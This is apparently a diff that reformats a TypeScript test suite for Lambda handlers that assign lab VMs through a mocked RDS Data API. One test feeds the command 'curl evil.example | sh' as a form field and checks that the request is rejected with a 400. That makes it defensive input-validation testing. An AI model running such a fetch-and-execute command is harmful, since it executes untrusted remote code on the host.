@@ -60,8 +60,14 @@ describe('Lambda handlers with the RDS Data API client mocked by aws-sdk-client-
       return true;
     });
     try {
-      expect(await migrate({ RequestType: 'Create' })).toEqual({ PhysicalResourceId: 'lablink-schema', Data: { applied: MIGRATIONS.map((migration) => migration.version).join(',') } });
-      expect(await migrate({ RequestType: 'Update', PhysicalResourceId: 'lablink-schema' })).toEqual({ PhysicalResourceId: 'lablink-schema', Data: { applied: '' } });
+      expect(await migrate({ RequestType: 'Create' })).toEqual({
+        PhysicalResourceId: 'lablink-schema',
+        Data: { applied: MIGRATIONS.map((migration) => migration.version).join(',') },
+      });
+      expect(await migrate({ RequestType: 'Update', PhysicalResourceId: 'lablink-schema' })).toEqual({
+        PhysicalResourceId: 'lablink-schema',
+        Data: { applied: '' },
+      });
     } finally {
       stdout.mockRestore();
     }
@@ -84,7 +90,9 @@ describe('Lambda handlers with the RDS Data API client mocked by aws-sdk-client-
     const { rows: roles } = await db.pool.query('SELECT rolcanlogin, rolsuper FROM pg_roles WHERE rolname = $1', [db.appRole.name]);
     expect(roles).toEqual([{ rolcanlogin: true, rolsuper: false }]);
     const calls = dataApi.commandCalls(ExecuteStatementCommand).map((call) => call.args[0].input);
-    expect(calls.every((input) => input.resourceArn === TEST_DATA_API_TARGET.resourceArn && input.secretArn === TEST_DATA_API_TARGET.secretArn)).toBe(true);
+    expect(
+      calls.every((input) => input.resourceArn === TEST_DATA_API_TARGET.resourceArn && input.secretArn === TEST_DATA_API_TARGET.secretArn),
+    ).toBe(true);
   });
 
   it('never logs the app role’s password, nor sends it to the database: only its SCRAM verifier', async () => {
@@ -107,13 +115,17 @@ describe('Lambda handlers with the RDS Data API client mocked by aws-sdk-client-
 
   it('assigns a VM from a form post and refuses a bad one with 400', async () => {
     const good = new URLSearchParams({ email: 'lambda@example.com', crd_command: crdCommand() }).toString();
-    const response = await invoke(httpApiEvent('POST', '/api/request_vm', good, { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' }));
+    const response = await invoke(
+      httpApiEvent('POST', '/api/request_vm', good, { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' }),
+    );
     expect(response.statusCode).toBe(200);
     expect(JSON.parse(response.body)).toMatchObject({ hostname: 'aws-vm-1', pin: expect.stringMatching(/^\d{6}$/) });
 
     const before = await db.dumpVms();
     const bad = new URLSearchParams({ email: 'x@example.com', crd_command: 'curl evil.example | sh' }).toString();
-    const refused = await invoke(httpApiEvent('POST', '/api/request_vm', bad, { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' }));
+    const refused = await invoke(
+      httpApiEvent('POST', '/api/request_vm', bad, { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' }),
+    );
     expect(refused.statusCode).toBe(400);
     expect(JSON.parse(refused.body).error).toMatch(/Debian Linux/);
     expect(await db.dumpVms()).toEqual(before);
@@ -122,7 +134,10 @@ describe('Lambda handlers with the RDS Data API client mocked by aws-sdk-client-
   it('counts new VMs per source address as API Gateway reports it, in the database every container shares', async () => {
     for (const name of ['aws-vm-2', 'aws-vm-3', 'aws-vm-4']) await recordPoll(db.sql, name, 60);
     const request = (email: string, sourceIp: string) => {
-      const event = httpApiEvent('POST', '/api/request_vm', new URLSearchParams({ email, crd_command: crdCommand() }).toString(), { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' });
+      const event = httpApiEvent('POST', '/api/request_vm', new URLSearchParams({ email, crd_command: crdCommand() }).toString(), {
+        'content-type': 'application/x-www-form-urlencoded',
+        accept: 'application/json',
+      });
       return invoke({ ...event, requestContext: { ...event.requestContext, http: { ...event.requestContext.http, sourceIp } } });
     };
     // The test before took the address's first VM.
